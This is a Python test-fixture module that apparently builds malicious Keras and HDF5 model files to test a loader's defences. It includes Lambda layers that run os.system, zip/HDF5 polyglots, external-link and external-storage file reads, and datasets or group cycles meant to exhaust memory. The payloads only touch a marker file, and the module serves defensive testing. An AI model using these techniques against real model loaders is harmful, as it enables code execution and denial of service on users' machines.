"""Model files made by an attacker: each carries a payload that would leave a file, or would take the machine's memory or time."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path

import h5py
import numpy as np


def config_of(path):
    """The configuration in an HDF5 model."""
    with h5py.File(path, "r") as file:
        return json.loads(file.attrs["model_config"])


def write_config(path, config):
    """Put ``config`` in the place of that in an HDF5 model."""
    with h5py.File(path, "r+") as file:
        del file.attrs["model_config"]
        file.attrs["model_config"] = json.dumps(config)
    return path


def with_lambda(good, settings, **layer):
    """The configuration ``good`` with a Lambda in the place of its second layer."""
    config = json.loads(json.dumps(good))
    old = config["config"]["layers"][1]
    new = {"class_name": "Lambda", "name": old["name"], "inbound_nodes": old["inbound_nodes"]} | layer
    shape = {"output_shape": None, "output_shape_type": "raw", "arguments": {}}
    config["config"]["layers"][1] = new | {"config": {"name": old["name"], **shape, **settings}}
    return config


def byte_code(target):
    """A Lambda of Python byte code, as Keras writes it in HDF5 files, that makes ``target`` when it is called."""
    code = compile(f"lambda x: __import__('os').system('touch {target}') or x", "payload", "eval").co_consts[0]
    text = base64.encodebytes(marshal.dumps(code)).decode()
    return {"function": [text, None, None], "function_type": "lambda", "module": "builtins"}


def system_call(target):
    """A Lambda of ``os.system``, as in archives, and what to call it with."""
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    called = [[["_CONSTANT_VALUE", -1, f"touch {target}", {}]]]
    layer = {"module": "keras.layers", "registered_name": None, "inbound_nodes": called}
    return {"function": function, "function_type": "function"}, layer


def zip_before_hdf5(h5, keras, target):
    """A harmless archive in the user block of an HDF5 file with a Lambda: for ``zipfile`` the one, for HDF5 the other."""
    config = with_lambda(config_of(h5), byte_code(target))
    path = h5.with_name("polyglot.h5")
    with h5py.File(path, "w", userblock_size=65536) as file, h5py.File(h5, "r") as good:
        file.attrs["model_config"] = json.dumps(config)
        good.copy("model_weights", file)
    archive = keras.read_bytes()
    assert len(archive) < 65536
    data = bytearray(path.read_bytes())
    data[: len(archive)] = archive
    path.write_bytes(bytes(data))
    return path


def hdf5_before_zip(h5, keras, target):
    """A harmless HDF5 file with an archive behind it whose configuration holds a Lambda."""
    path = h5.with_name("polyglot.keras")
    with zipfile.ZipFile(keras) as good:
        config, weights = json.loads(good.read("config.json")), good.read("model.weights.h5")
    settings, layer = system_call(target)
    path.write_bytes(h5.read_bytes())
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", json.dumps(with_lambda(config, settings, **layer)))
        archive.writestr("model.weights.h5", weights)
    return path


def archive_with(keras, path, **members):
    """The archive ``keras`` with some of its members changed, at ``path``."""
    with zipfile.ZipFile(keras) as good, zipfile.ZipFile(path, "w") as bad:
        for member in good.namelist():
            bad.writestr(member, members.pop(member, None) or good.read(member))
        for member, content in members.items():
            bad.writestr(member, content)
    return path


def unchanged(_):
    return None


def spoiled(keras, path, change=unchanged, weights=unchanged, **members):
    """The archive ``keras`` at ``path``: its configuration by ``change``, in place or anew, its arrays by ``weights``."""
    with zipfile.ZipFile(keras) as good:
        config, data = json.loads(good.read("config.json")), io.BytesIO(good.read("model.weights.h5"))
    config = change(config) or config
    with h5py.File(data, "r+") as file:
        weights(file)
    members |= {"config.json": json.dumps(config), "model.weights.h5": data.getvalue()}
    return archive_with(keras, path, **members)


def spoiled_layers(keras, path, change=unchanged, weights=unchanged):
    """As ``spoiled``, with the list of layers changed in place."""

    def within(config):
        change(config["config"]["layers"])

    return spoiled(keras, path, within, weights)


def of_class(layers, kind):
    """The first of some layers that is of a class."""
    return next(layer for layer in layers if layer["class_name"] == kind)


def with_weight(h5, make):
    """An HDF5 model whose first array is made by ``make(group, name)``."""
    with h5py.File(h5, "r+") as file:
        layer = file["model_weights/d"]
        del layer["d/kernel:0"]
        make(layer["d"], "kernel:0")
    return h5


def soft(group, name):
    group[name] = h5py.SoftLink("/elsewhere")
    group.file["elsewhere"] = np.zeros((7, 4), np.float32)


def external_link(group, name):
    group[name] = h5py.ExternalLink("other.h5", "/x")


def external_storage(group, name):
    other = Path(group.file.filename).with_name("secret.bin")
    other.write_bytes(b"\1" * 112)
    group.create_dataset(name, (7, 4), np.float32, external=[(str(other), 0, 112)])


def virtual(group, name):
    layout = h5py.VirtualLayout((7, 4), np.float32)
    layout[:] = h5py.VirtualSource("other.h5", "x", (7, 4))
    group.create_virtual_dataset(name, layout)


def huge(group, name):
    group.create_dataset(name, (1 << 20, 1 << 20), np.float32, chunks=(1024, 1024))


def huge_contiguous(group, name):
    plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plist.set_alloc_time(h5py.h5d.ALLOC_TIME_LATE)
    space = h5py.h5s.create_simple((1 << 20, 1 << 20))
    h5py.h5d.create(group.id, name.encode(), h5py.h5t.IEEE_F32LE, space, plist)


def huge_and_empty(group, name):
    group.create_dataset(name, (0, 1 << 62), np.float32)


def compressed(group, name):
    group.create_dataset(name, data=np.zeros((7, 4), np.float32), compression="gzip")


def compound(group, name):
    group[name] = np.zeros((7, 4), np.dtype([("a", "f4")]))


def texts(group, name):
    group[name] = np.full((7, 4), b"abc")


def never_written(group, name):
    group.create_dataset(name, (7, 4), np.float32)


def group_instead(group, name):
    group.create_group(name)


WEIGHTS = [
    *(soft, external_link, external_storage, virtual, huge, huge_contiguous, huge_and_empty),
    *(compressed, compound, texts, never_written, group_instead),
]


def long_names(h5):
    """A list of three megabytes of names."""
    with h5py.File(h5, "r+") as file:
        group = file["model_weights"]
        del group.attrs["layer_names"]
        group.attrs["layer_names"] = ["x" * 30_000] * 100
    return h5


def diamond(keras, levels=40):
    """An archive whose weights are groups with two names each, `2 ** levels` paths."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        group = file.create_group("g")
        for _ in range(levels):
            below = group.create_group("a")
            group["b"] = below
            group = below
    return archive_with(keras, keras.with_name("diamond.keras"), **{"model.weights.h5": stream.getvalue()})


def ring(keras):
    """An archive whose weights are a group that holds itself."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_group("g")["again"] = file["/"]
    return archive_with(keras, keras.with_name("ring.keras"), **{"model.weights.h5": stream.getvalue()})


def chain(h5, layers):
    """A model of that many layers, one after the other."""
    config = config_of(h5)
    body = config["config"]
    body["layers"] = body["layers"][:1]
    name = body["layers"][0]["config"]["name"]
    for number in range(layers):
        body["layers"].append(
            {
                "class_name": "QActivation",
                "config": {"name": f"a{number}", "activation": "quantized_bits(6,2,alpha=1)"},
                "name": f"a{number}",
                "inbound_nodes": [[[name, 0, 0, {}]]],
            }
        )
        name = f"a{number}"
    body["output_layers"] = [[name, 0, 0]]
    return write_config(h5, config)
